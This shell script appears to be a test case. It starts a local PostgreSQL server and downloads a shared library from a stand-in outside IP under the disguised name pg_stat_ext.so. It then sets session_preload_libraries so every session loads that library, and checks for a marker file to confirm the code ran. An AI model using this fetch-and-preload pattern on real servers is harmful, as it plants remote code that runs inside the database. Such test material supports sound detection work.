#!/bin/sh
. /opt/case/case.sh

bin=$(ls -d /usr/lib/postgresql/*/bin)
mkdir -p /srv/pg /run/postgresql && chown postgres /srv/pg /run/postgresql && chmod 1777 /tmp
as() { setpriv --reuid postgres --regid postgres --init-groups env HOME=/srv/pg "$@"; }
as "$bin/initdb" -A trust -N -D /srv/pg/d >/dev/null && as "$bin/pg_ctl" -D /srv/pg/d -l /srv/pg/log -o '-F -c listen_addresses=127.0.0.1' -w start >/dev/null
as curl -s -o /srv/pg/pg_stat_ext.so http://203.0.113.10/programs/preload.so
psql -qAt -h 127.0.0.1 -U postgres -c "alter role postgres set session_preload_libraries = '/srv/pg/pg_stat_ext.so'"
psql -qAt -h 127.0.0.1 -U postgres -c 'select 1' >/dev/null 2>&1 || true
as "$bin/pg_ctl" -D /srv/pg/d -m immediate stop >/dev/null
test -e /tmp/reached
took_place
